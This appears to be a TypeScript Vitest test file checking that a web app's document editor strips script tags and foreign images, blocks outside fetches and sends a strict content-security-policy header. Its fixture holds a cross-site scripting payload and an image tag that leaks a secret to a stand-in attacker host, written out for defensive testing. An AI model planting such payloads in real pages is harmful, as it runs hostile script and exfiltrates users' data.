import { afterAll, beforeAll, expect, it, vi } from 'vitest';
import { buildDocument } from '../../testing/build.ts';
import { startTestProduct, type TestCaller, type TestProduct } from '../../testing/test-product.ts';

let product: TestProduct;
let owner: TestCaller;
const raw = '<h1>Shoes</h1><p>They grip.<script>alert(1)</script></p><img src="https://evil.example/?d=SECRET" alt="Chart">';
const clean = '<a href="https://evil.example/?d=SECRET" rel="noopener">Chart</a>';

beforeAll(async () => {
  product = await startTestProduct({ FOLIO_ROLE: 'web' });
  owner = await product.register('Owner Person');
});
afterAll(() => product.stop());

const show = async (id: number) =>
  JSON.stringify((await owner.get('/services/orders/show', { action: 'retrieve-html', order_detail_id: id })).body);

it('a text that was kept with a script and a foreign picture is read and restored without', async () => {
  const { detailId } = await buildDocument(product, owner, { html: '<p>They grip.</p>' });
  const [old] = await product.sql<{ id: number }>(
    'update document_versions set html = $2 where order_detail_id = $1 returning id',
    [detailId, raw],
  );
  const shown = await show(detailId);
  expect(shown).not.toMatch(/<script|<img/);
  expect(shown).toContain(JSON.stringify(clean).slice(1, -1));
  const version = await owner.get('/services/orders/versions/show', { version_id: old?.id });
  expect(JSON.stringify(version.body)).not.toMatch(/<script|<img/);
  await owner.send('POST', '/services/orders/update', { order_detail_id: detailId, content: { html: '<p>Another text.</p>' } });
  expect((await owner.send('POST', '/services/orders/versions/restore', { version_id: old?.id })).status).toBe(200);
  const kept = await product.sql<{ html: string }>(`select html from document_versions where origin = 'restore'`);
  expect(kept.map(({ html }) => /<script|<img/.test(html))).toEqual([false]);
});

it('a picture of another host is saved as a link, and nothing is fetched for a download', async () => {
  const { detailId } = await buildDocument(product, owner);
  const fetched = vi.spyOn(globalThis, 'fetch');
  await owner.send('POST', '/services/orders/update', { order_detail_id: detailId, content: { html: raw } });
  const [row] = await product.sql<{ html: string }>(
    'select html from document_versions where order_detail_id = $1 order by id desc limit 1',
    [detailId],
  );
  expect(row?.html).not.toContain('<img');
  expect(row?.html).toContain('https://evil.example/?d=SECRET');
  expect(fetched.mock.calls.filter(([url]) => String(url).includes('evil'))).toEqual([]);
});

it('the page loads pictures of this site only', async () => {
  const { headers } = await fetch(`${product.url}/healthz`);
  expect(headers.get('content-security-policy')).toMatch(/img-src 'self' data: blob:(;|$)/);
  expect(headers.get('permissions-policy')).toContain('camera=()');
});
